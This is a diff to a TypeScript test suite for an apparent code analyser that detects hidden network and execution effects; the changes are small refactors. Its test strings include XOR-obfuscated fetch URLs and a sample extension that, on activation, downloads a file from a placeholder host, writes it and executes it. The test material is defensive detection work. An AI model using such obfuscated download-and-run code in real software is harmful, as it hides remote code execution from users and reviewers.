@@ -6,6 +6,7 @@ const hex = (text: string) => Buffer.from(text).toString("hex");
 const base64 = (text: string) => Buffer.from(text).toString("base64");
 const address = "https://api.example/v1";
 const characters = Array.from(address);
+const masked = (key: number) => characters.map((character) => character.charCodeAt(0) ^ key).join(",");
 
 describe("a constant is known however it is written", () => {
   const forms: Readonly<Record<string, string>> = {
@@ -67,7 +68,6 @@ describe("a constant is known however it is written", () => {
   });
 
   test("the same function with another key each time", async () => {
-    const masked = (key: number) => characters.map((character) => character.charCodeAt(0) ^ key).join(",");
     const source = `const read = (list, key) => list.map((code) => String.fromCharCode(code ^ key)).join("");
       fetch(read([${masked(3)}], 3)); fetch(read([${masked(9)}], 9) + "/two");`;
     const requests = await effectsOf("request", source);
@@ -440,8 +440,8 @@ describe("hostile programs", () => {
         require("fs").writeFileSync(file, (await fetch("${address}")).body); require("child_process").execFile(file); }
       module.exports = { activate(context) { get(context); }, other() { fetch("https://b.example"); } };`;
     const { effects } = await readFiles({ "extension.js": source });
-    const [run] = effects.filter(({ kind }) => kind === "run");
-    const [write] = effects.filter(({ kind }) => kind === "write");
+    const run = effects.find(({ kind }) => kind === "run");
+    const write = effects.find(({ kind }) => kind === "write");
     assert.deepEqual(run?.subject.texts, write?.subject.texts);
     assert.equal(run?.time, "load");
     assert.deepEqual(
